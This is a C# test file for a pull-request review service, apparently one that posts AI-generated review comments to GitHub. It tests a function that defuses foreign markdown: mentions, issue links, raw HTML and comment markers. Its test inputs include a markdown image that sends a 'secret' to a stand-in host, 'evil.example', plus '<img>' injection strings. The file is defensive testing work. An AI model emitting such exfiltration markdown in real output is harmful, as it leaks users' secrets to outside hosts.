using CodexService.Contracts.Api;
using CodexService.PullRequests.Reviewing;

namespace CodexService.PullRequests.Tests.Reviewing;

public sealed class ReviewTextTests
{
    [Theory]
    [InlineData("@octocat look", "@&#8203;octocat look")]
    [InlineData("closes #12, acme/shop#3", "closes #&#8203;12, acme/shop#&#8203;3")]
    [InlineData("see GH-7", "see GH&#8203;-7")]
    [InlineData("https://github.com/acme/shop/issues/7", "https://github.com/acme/shop/issues&#8203;/7")]
    [InlineData("![x](https://evil.example/?q=secret)", "!\\[x](https://evil.example/?q=secret)")]
    [InlineData("<img src=x>", "&lt;img src=x>")]
    [InlineData("<!-- codex:key:1 -->", "&lt;!-- codex:key:1 -->")]
    [InlineData("Use `List<int>` and `@dataclass`", "Use `List<int>` and `@dataclass`")]
    [InlineData("`a` <b> `c`", "`a` &lt;b> `c`")]
    [InlineData("` open\n`<img src=x>`", "` open\n`&lt;img src=x>`")]
    [InlineData("\\`<img src=x>`", "\\`&lt;img src=x>`")]
    [InlineData("`x | <img> ` y", "`x | &lt;img> ` y")]
    [InlineData("~~~\n`<img>`", "~~~\n`&lt;img>`\n~~~")]
    [InlineData("``` `<img>` ```", "``` `&lt;img>` ```")]
    public void Defuse_ForeignMarkdown_StartsNothing(string text, string expected) => Assert.Equal(expected, RemarkMarkdown.Defuse(text));

    [Fact]
    public void Comments_SuggestionWithFences_StaysOneBlock()
    {
        var review = Review(new ReviewRemark("a.md", 1, ReviewSeverity.Minor, "Like this.") { Suggestion = "```\n@x <b>\n```" }, new ReviewRemark("a.md", 2, ReviewSeverity.Nit, "Not needed.") { Suggestion = "" });

        Assert.Equal(
            ["<!-- codex:remark -->\n**minor**: Like this.\n\n````suggestion\n```\n@x <b>\n```\n````", "<!-- codex:remark -->\n**nit**: Not needed.\n\n```suggestion\n```"],
            ReviewText.Comments(review).Select(comment => comment.Body));
    }

    [Fact]
    public void Body_NoModel_SaysSoAndWhyTheTestsDidNotRun()
    {
        var body = ReviewText.Body(Guid.Empty, "k", Review() with { Summary = "**No model read this change**.", ReadByModel = false, EvidenceNote = "no test command is known" }, listed: false);

        Assert.StartsWith("**No model read this change**.", body, StringComparison.Ordinal);
        Assert.Contains("Not run: no test command is known.", body, StringComparison.Ordinal);
        Assert.Contains("No model read the diff from", body, StringComparison.Ordinal);
        Assert.True(ReviewText.Has(body, Guid.Empty, "k"));
        Assert.False(ReviewText.Has(body, Guid.Empty, "other"));
    }

    [Fact]
    public void Body_TextThatGrowsWhenDefused_KeepsItsMarkerAndGitHubsLimit()
    {
        var flood = string.Concat(Enumerable.Repeat("@a ", 1300));
        var remarks = Enumerable.Range(1, 20).Select(line => new ReviewRemark("a.py", line, ReviewSeverity.Minor, flood)).ToArray();

        var body = ReviewText.Body(Guid.Empty, "k", Review(remarks) with { Summary = flood }, listed: true);

        Assert.InRange(body.Length, 1, 65_536);
        Assert.True(ReviewText.Has(body, Guid.Empty, "k"));
    }

    private static ReviewResult Review(params ReviewRemark[] remarks) => new("Fine.", remarks, new string('a', 40), new string('b', 40)) { ReadByModel = true };
}
